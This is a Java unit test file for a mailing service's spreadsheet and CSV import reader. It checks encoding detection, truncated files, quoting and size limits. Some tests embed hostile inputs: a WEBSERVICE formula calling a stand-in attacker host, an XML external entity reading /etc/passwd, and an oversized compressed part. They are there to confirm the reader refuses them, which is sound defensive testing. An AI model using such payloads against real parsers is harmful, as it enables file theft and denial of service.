package com.mailflatrate.sheets;

import static com.mailflatrate.given.Sheets.moment;
import static com.mailflatrate.given.Sheets.row;
import static com.mailflatrate.given.Sheets.text;
import static org.assertj.core.api.Assertions.assertThat;

import com.mailflatrate.given.Sheets;
import com.mailflatrate.kernel.Code;
import com.mailflatrate.kernel.Outcome;
import com.mailflatrate.kernel.Reason;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files as they come, and as somebody sends them who means no good. */
class FileReadingTest {

    private static final Charset WINDOWS = Charset.forName("windows-1252");

    @TempDir private Path directory;

    @Test
    void aWorkbookIsReadByItsFirstSheetWithDatesAsIsoAndLinesAsInTheSheet() {
        byte[] book =
                new Sheets()
                        .with(
                                row(1, text("E-Mail"), text("Zeit"), text("Karte")),
                                row(
                                        2,
                                        text("anna@mail.test"),
                                        moment(45728.780914351852),
                                        "<c><v>17</v></c>"),
                                row(9, text("bert@mail.test"), moment(45728), text("a;\nb")));
        List<CsvRecord> rows = rows(done(book));
        assertThat(rows.get(1).getFields())
                .containsExactly("anna@mail.test", "2025-03-12 18:44:31", "17");
        assertThat(rows.get(2).getFields())
                .containsExactly("bert@mail.test", "2025-03-12", "a;\u000Bb");
        assertThat(rows.get(2).getStartingLineNumber()).isEqualTo(9);
    }

    @Test
    void aFormulaOfAWorkbookIsNeverComputedAndGivesTheValueItWasSavedWith() {
        byte[] book =
                new Sheets()
                        .with(
                                row(1, text("E-Mail"), text("Name")),
                                row(
                                        2,
                                        "<c t=\"str\"><f>WEBSERVICE(\"http://evil.test\")</f><v>anna@mail.test</v></c>",
                                        text("=1+1")));
        assertThat(rows(done(book)).get(1).getFields()).containsExactly("anna@mail.test", "=1+1");
    }

    @Test
    void aBombIsRefusedBeforeItIsOpenedWhicheverPartItSitsIn() {
        String mega = "<row><c><v>1</v></c></row>".repeat(40_330); // 1 MiB
        byte[] texts =
                new Sheets().part("xl/sharedStrings.xml", mega, 50).with(row(1, text("E-Mail")));
        byte[] sheet =
                new Sheets()
                        .part("xl/worksheets/sheet2.xml", mega, 420)
                        .with(row(1, text("E-Mail")));
        assertThat(texts.length).isLessThan(500_000);
        refused(texts, Code.UNPACKED_TOO_LARGE);
        refused(sheet, Code.UNPACKED_TOO_LARGE);
        byte[] neighbour =
                new Sheets()
                        .part("xl/sharedStrings.xml", "<sst/>")
                        .with(row(1, text("E-Mail")), row(2, text("a@b.test")));
        done(neighbour);
    }

    @ParameterizedTest
    @ValueSource(ints = {4, 30, 200, 700, 1200})
    void aWorkbookCutAnywhereIsRefusedInWords(int length) {
        byte[] book = new Sheets().with(row(1, text("E-Mail")), row(2, text("a@b.test")));
        refused(Arrays.copyOf(book, length), Code.UNREADABLE_FILE);
    }

    @Test
    void anEntityOfAWorkbookIsNotFollowed() {
        byte[] book =
                new Sheets()
                        .part(
                                "xl/sharedStrings.xml",
                                "<!DOCTYPE sst [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><sst><si><t>&x;</t></si></sst>")
                        .with(
                                row(1, text("E-Mail"), text("Name")),
                                row(2, text("a@b.test"), "<c t=\"s\"><v>0</v></c>"));
        Outcome<ColumnFile> looked = look(book);
        if (looked.isDone()) {
            assertThat(rows(looked.orThrow()).toString()).doesNotContain("root:");
        }
    }

    @ParameterizedTest
    @CsvSource({"UTF-8,;", "UTF-16LE,;", "UTF-16BE,','", "windows-1252,;", "UTF-8,'\t'"})
    void encodingAndSeparatorAreFoundWithoutAnyMark(String charset, String separator) {
        String text =
                "E-Mail;\"Vor;name\";Ort\njörg@mail.test;Jörg;Köln\nänne@mail.test;Änne;Füssen\n"
                        .replace(";name", "name")
                        .replace(";", separator);
        ColumnFile file = done(text.getBytes(Charset.forName(charset)));
        assertThat(file.charset().name()).isEqualToIgnoringCase(charset);
        assertThat(file.headings()).containsExactly("E-Mail", "Vorname", "Ort");
        assertThat(rows(file).get(1).getField(2)).isEqualTo("Köln");
    }

    @Test
    void aHeadingOverTwoLinesIsOneHeading() {
        ColumnFile file = done(bytes("\"E-Mail,\nprivat\";Ort\na@b.test;Köln\n"));
        assertThat(file.headings()).containsExactly("E-Mail,\nprivat", "Ort");
        assertThat(file.rows()).isEqualTo(1);
    }

    @Test
    void aFileCutInsideACharacterKeepsItsEncoding() {
        byte[] whole = bytes("E-Mail;Ort\na@b.test;Füssen\nc@d.test;Mü");
        ColumnFile file = done(Arrays.copyOf(whole, whole.length - 1));
        assertThat(file.charset()).isEqualTo(StandardCharsets.UTF_8);
        assertThat(rows(file).get(1).getField(1)).isEqualTo("Füssen");
        assertThat(done("E-Mail;Ort\na@b.test;Orl\u00e9".getBytes(WINDOWS)).charset())
                .isEqualTo(WINDOWS);
    }

    @Test
    void aQuoteThatIsNeverClosedIsNamedByItsLineInsteadOfSwallowingTheRest() {
        Outcome<ColumnFile> looked =
                look(bytes("E-Mail;Ort\na@b.test;Ulm\nc@d.test;\"Köln\ne@f.test;Bonn\n"));
        assertThat(looked.reasons()).containsExactly(Reason.of(Code.OPEN_QUOTE, 3L));
        refused(bytes("E-Mail;\"Ort\na@b.test;Ulm\n"), Code.OPEN_QUOTE);
        assertThat(done(bytes("E-Mail;Ort\na@b.test;\"Köln\nam Rhein\"\n")).rows()).isEqualTo(1);
        assertThat(done(bytes("E-Mail;Rohr\na@b.test;5\" lang\nc@d.test;kurz\n")).rows())
                .as("an inch is no quote")
                .isEqualTo(2);
    }

    @Test
    void aWorkbookWithoutFormatsIsReadTextByText() {
        byte[] bare =
                new Sheets(false)
                        .with(
                                row(1, text("E-Mail")),
                                row(2, text("anna@mail.test"), "<c><v>7</v></c>"));
        assertThat(rows(done(bare)).get(1).getFields()).containsExactly("anna@mail.test", "7");
    }

    @Test
    void everyCutOfAFileIsReadOrRefusedAndNeverAnError() {
        byte[] whole = bytes("E-Mail;Ort;\"No\"\"tiz\"\na@b.test;Köln;\"x\ny\"\nc@d.test;Ulm;\n");
        for (int length = 0; length <= whole.length; length++) {
            assertThat(look(Arrays.copyOf(whole, length))).isNotNull();
        }
    }

    @Test
    void aFileThatDeclaresAnotherEncodingThanItHasIsReadByWhatItHasOrRefusedInWords() {
        byte[] windows = "\u00ef\u00bb\u00bfE-Mail;Ort\na@b.test;K\u00f6ln\n".getBytes(WINDOWS);
        Outcome<ColumnFile> marked = look(windows);
        if (marked.isDone()) {
            assertThat(rows(marked.orThrow()).get(1).getField(0)).isEqualTo("a@b.test");
        } else {
            assertThat(marked.reasons().getFirst().code()).isEqualTo(Code.UNREADABLE_FILE);
        }
        byte[] sixteen = "\u00ff\u00feE-Mail;Ort\na@b.test;Ulm\n".getBytes(WINDOWS);
        assertThat(look(sixteen).reasons().getFirst().code())
                .isIn(Code.EMPTY_FILE, Code.UNREADABLE_FILE);
    }

    @Test
    void twoThousandColumnsAndALineWithoutEndAreRefused() {
        refused(bytes("x;".repeat(2_000) + "\n" + "y;".repeat(2_000)), Code.TOO_MANY_COLUMNS);
        done(bytes("x;".repeat(199) + "x\n" + "y;".repeat(199)));
        refused(bytes("E-Mail\n\"" + "a".repeat(20 << 20)), Code.UNREADABLE_FILE);
    }

    private void refused(byte[] file, Code code) {
        Outcome<ColumnFile> looked = look(file);
        assertThat(looked.isDone()).isFalse();
        assertThat(looked.reasons().getFirst().code()).isEqualTo(code);
    }

    private ColumnFile done(byte[] file) {
        return look(file).orThrow();
    }

    private Outcome<ColumnFile> look(byte[] file) {
        try {
            Path path = Files.createTempFile(directory, "file", ".csv");
            Files.write(path, file);
            return FileReading.look(path);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<CsvRecord> rows(ColumnFile file) {
        try (CsvReader<CsvRecord> reader = file.read()) {
            return reader.stream().toList();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
